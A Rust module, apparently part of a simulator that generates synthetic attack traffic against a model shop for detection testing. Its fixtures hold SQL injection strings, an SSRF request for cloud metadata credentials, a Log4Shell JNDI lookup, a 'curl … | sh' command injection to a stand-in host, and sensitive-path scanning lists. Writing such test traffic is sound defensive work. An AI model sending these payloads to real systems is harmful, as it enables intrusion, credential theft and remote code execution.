//! Attacks in requests and messages.

use super::after;
use super::shop::{Request, Shop};

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

fn hostile(shop: &Shop, at: f64) -> Request {
    let (_, _) = (shop, at);
    Request {
        at: after(at),
        function: "storefront",
        method: "GET",
        status: 200,
        client: "203.0.113.66".to_owned(),
        agent: BROWSER.to_owned(),
        hostile: true,
        ..Request::default()
    }
}

pub fn sql(shop: &mut Shop) {
    let texts = [
        "q=1%27+OR+%271%27%3D%271",
        "q=x%27+UNION+SELECT+login%2Cpassword+FROM+users--",
        "q=1%3B+DROP+TABLE+orders--",
    ];
    for (n, query) in texts.iter().enumerate() {
        let request = Request {
            path: "/search".to_owned(),
            query: (*query).to_owned(),
            ..hostile(shop, 4.0 * n as f64)
        };
        shop.answer(&request);
    }
}

pub fn sql_executed(shop: &mut Shop) {
    for second in 0..600 {
        // What the function asks on ordinary days.
        let (client, agent) = shop.visitor(second % 300);
        let at = second * crate::time::SECOND;
        let request = Request {
            at,
            function: "storefront",
            method: "GET",
            path: "/search".to_owned(),
            query: format!("q=shoes{second}"),
            status: 200,
            client,
            agent,
            ..Request::default()
        };
        let ids = shop.answer(&request);
        shop.database(
            at,
            "storefront",
            ids,
            &format!("select id, name from products where name like '%shoes{second}%'"),
            false,
        );
    }
    let request = Request {
        path: "/search".to_owned(),
        query: "q=x%27+UNION+SELECT+login%2Cpassword+FROM+users--+".to_owned(),
        ..hostile(shop, 1.0)
    };
    let ids = shop.answer(&request);
    let query = "select id, name from products where name like '%x' UNION SELECT login,password FROM users-- %'";
    shop.database(after(0.99), "storefront", ids, query, true);
}

pub fn metadata(shop: &mut Shop) {
    let request = Request {
        query:
            "u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"
                .to_owned(),
        ..hostile(shop, 1.0)
    };
    shop.preview(request, "169.254.169.254");
}

pub fn log4shell(shop: &mut Shop) {
    let request = Request {
        path: "/products".to_owned(),
        agent: "${${lower:j}ndi:ldap://203.0.113.66:1389/a}".to_owned(),
        ..hostile(shop, 1.0)
    };
    shop.answer(&request);
}

pub fn message(shop: &mut Shop) {
    let sent = shop.ids();
    let body = "{\"order\": 18, \"note\": \"$(curl http://203.0.113.66/x.sh | sh)\"}";
    shop.consume(after(1.0), "orders-worker", sent, "orders", body, true);
}

const NAMES: &[&str] = &[
    "admin",
    "backup.zip",
    ".env",
    ".git/config",
    "wp-login.php",
    "phpinfo.php",
    "server-status",
    "config.json",
    "test",
    "old",
    "api/v1/users",
    "swagger",
    "login.bak",
    "db.sql",
    "hidden",
    "private",
    "upload",
    "tmp",
    "dev",
    "staging",
    "internal",
    "debug",
    "console",
    "portal",
    "secure",
    "files",
    "download",
    "data",
    "logs",
    "stats",
];

fn guess(shop: &mut Shop, at: f64, name: &str, client: String, agent: &str) {
    let request = Request {
        path: format!("/{name}"),
        status: 404,
        client,
        agent: agent.to_owned(),
        ..hostile(shop, at)
    };
    shop.answer(&request);
}

pub fn scanner(shop: &mut Shop) {
    for n in 0..200 {
        let name = format!("{}{}", NAMES[n % NAMES.len()], n / NAMES.len());
        guess(
            shop,
            0.1 * n as f64,
            &name,
            "203.0.113.66".to_owned(),
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
        );
    }
}

pub fn quiet_scan(shop: &mut Shop) {
    // Words that no list of private places knows, one in two seconds, as a browser.
    for n in 0..90 {
        let word = format!(
            "{}-{}",
            NAMES[(n * 7 + 10) % NAMES.len()].replace(['.', '/'], "-"),
            ["area", "new", "app"][n % 3]
        );
        guess(
            shop,
            2.0 * n as f64,
            &word,
            "203.0.113.66".to_owned(),
            BROWSER,
        );
    }
}

pub fn spread_scan(shop: &mut Shop) {
    for n in 0..240 {
        let name = format!(
            "{}-{}",
            NAMES[n % NAMES.len()].replace(['.', '/'], "-"),
            ["x", "y", "z", "w"][n / NAMES.len() % 4]
        );
        let client = format!("{}.{}.{}.9", 185 + n % 9, 20 + n % 17, n % 230);
        guess(shop, 0.25 * n as f64, &name, client, BROWSER);
    }
}

pub fn enumeration(shop: &mut Shop) {
    for n in 0..200 {
        let found = n % 11 == 0;
        let request = Request {
            path: format!("/api/invoices/{}", 1_000 + n),
            status: if found { 200 } else { 404 },
            ..hostile(shop, 0.3 * n as f64)
        };
        shop.answer(&request);
    }
}
